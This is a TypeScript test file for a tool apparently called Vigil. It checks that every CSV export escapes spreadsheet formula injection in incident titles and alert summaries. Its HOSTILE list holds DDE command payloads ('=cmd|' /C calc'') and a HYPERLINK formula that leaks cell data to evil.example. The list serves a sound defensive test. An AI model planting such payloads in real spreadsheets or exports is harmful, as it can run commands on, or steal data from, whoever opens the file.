// CSV formula injection, end to end: the PagerDuty stand-in serves incidents whose titles (and
// alert summaries) are spreadsheet formulas (=cmd|…, +, -, @, a leading tab or carriage return),
// the real collector syncs them, and every CSV Vigil writes — the incidents export over the API
// and from `vigil export`, the alert-rules metric, and the weekly review's CSV — must hand them to a
// spreadsheet as text: a leading apostrophe, the rest of the title intact, and no cell anywhere
// that starts like a formula unless it is a plain number.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../../server/api/app.ts';
import { type Database, openDatabase } from '../../server/db/index.ts';
import { refreshDerived } from '../../server/metrics/refresh.ts';
import { REVIEW_WEEK } from '../reliability/endpoints.ts';
import { startVigilWorld, type VigilWorld } from '../reliability/world.ts';
import type { OrgAlert, OrgIncident, OrgStore, Page } from '../stand-ins/org/model.ts';
import { runCli } from '../support/cli.ts';
import { tempDir } from '../support/tmp.ts';

const HOSTILE = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1 (a leading tab)',
  '\r=1+1 (a leading carriage return)',
  '=1+1, with "quotes", commas\nand a second line',
];

/** The organisation, with every incident title and alert summary replaced by a formula. */
function hostileTitles(store: OrgStore): OrgStore {
  const title = (incident: OrgIncident): OrgIncident => ({
    ...incident,
    title: HOSTILE[incident.number % HOSTILE.length] as string,
  });
  const summary = (alert: OrgAlert, i: number): OrgAlert => ({ ...alert, summary: HOSTILE[i % HOSTILE.length] as string });
  return new Proxy(store, {
    get(target, key) {
      if (key === 'incidents') {
        return async (...args: Parameters<OrgStore['incidents']>): Promise<Page<OrgIncident>> => {
          const page = await target.incidents(...args);
          return { ...page, items: page.items.map(title) };
        };
      }
      if (key === 'incident') return async (id: string) => ((i) => i && title(i))(await target.incident(id));
      if (key === 'alerts') {
        return async (...args: Parameters<OrgStore['alerts']>): Promise<Page<OrgAlert>> => {
          const page = await target.alerts(...args);
          return { ...page, items: page.items.map(summary) };
        };
      }
      const value = Reflect.get(target, key, target);
      return typeof value === 'function' ? value.bind(target) : value;
    },
  });
}

const root = tempDir('vigil-csv-injection-');
let world: VigilWorld;
let db: Database;
let app: ReturnType<typeof createApp>;

beforeAll(async () => {
  world = await startVigilWorld({
    dir: root,
    repos: 2,
    pagerdutyHistoryDays: 30,
    wrapStore: hostileTitles,
  });
  const [pagerduty] = await world.syncNow(['pagerduty']);
  expect(pagerduty?.status, pagerduty?.error ?? '').toBe('succeeded');
  db = await openDatabase(world.dbPath);
  await refreshDerived(db, world.config);
  app = createApp({ db, config: world.config, log: () => {} });
}, 120_000);

afterAll(async () => {
  await db?.close();
  await world?.close();
});

/** Parse a CSV and check every cell; returns the rows as objects. */
function checkCsv(text: string, where: string): Record<string, string>[] {
  const rows = parse(text, { columns: true, bom: true, relax_column_count: false }) as Record<string, string>[];
  for (const [i, row] of rows.entries()) {
    for (const [column, cell] of Object.entries(row)) {
      if (/^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?([eE][+-]?\d+)?$/.test(cell)) {
        throw new Error(`${where}, row ${i + 1}, ${column}: a spreadsheet would run ${JSON.stringify(cell)}`);
      }
    }
  }
  return rows;
}

/** Every planted title that reached the file did so as text: an apostrophe, then the title intact. */
function expectNeutralised(cells: string[], where: string): void {
  const planted = cells.filter((c) => HOSTILE.some((h) => c === `'${h}`));
  expect(planted.length, `${where}: planted titles, each behind an apostrophe`).toBeGreaterThan(0);
  for (const cell of cells) {
    for (const h of HOSTILE) if (cell.includes(h)) expect(cell, where).toBe(`'${h}`);
  }
}

async function csvOf(path: string): Promise<string> {
  const res = await app.request(path);
  expect(res.status, path).toBe(200);
  expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
  return res.text();
}

describe('CSV formula injection from hostile incident titles', () => {
  it('the stand-in served the formulas and the collector stored them as they were', async () => {
    const titles = await db.all<{ title: string }>('SELECT DISTINCT title FROM incidents');
    expect(titles.map((t) => t.title).sort()).toEqual([...HOSTILE].sort());
  });

  it('neutralises them in the incidents export over the API', async () => {
    const rows = checkCsv(await csvOf('/api/incidents.csv?from=2026-05-01&to=2026-06-01'), 'incidents.csv');
    expect(rows.length).toBeGreaterThan(10);
    expectNeutralised(
      rows.map((r) => r.title ?? ''),
      'incidents.csv title',
    );
  });

  it('neutralises them in `vigil export incidents`', async () => {
    // The command opens the database itself: this process lets go of it meanwhile.
    await db.close();
    const out = await runCli(
      ['export', 'incidents', '--from', '2026-05-01', '--to', '2026-06-01', '--config', world.configFile, '--out', '-'],
      { env: world.env },
    );
    db = await openDatabase(world.dbPath);
    app = createApp({ db, config: world.config, log: () => {} });
    expect(out.code, out.stderr).toBe(0);
    const rows = checkCsv(out.stdout, 'vigil export incidents');
    expectNeutralised(
      rows.map((r) => r.title ?? ''),
      'vigil export incidents',
    );
  });

  it('neutralises them in the noisiest alert rules (a metric as CSV)', async () => {
    const rows = checkCsv(await csvOf('/api/metrics/alert-rules.csv?from=2026-05-01&to=2026-06-01'), 'alert-rules.csv');
    expect(rows.length).toBeGreaterThan(0);
  });

  it("neutralises them in the weekly review's CSV", async () => {
    const options = (await (await app.request('/api/review/options')).json()) as { teams: { id: string }[] };
    const cells: string[] = [];
    for (const team of options.teams) {
      const text = await csvOf(`/api/review/export.csv?team=${encodeURIComponent(team.id)}&week=${REVIEW_WEEK}`);
      const rows = checkCsv(text, `review ${team.id}`);
      cells.push(...rows.flatMap((r) => [r.incident_title ?? '', r.rule_title ?? '']));
    }
    expectNeutralised(
      cells.filter((c) => c !== ''),
      'review CSV',
    );
  });
});
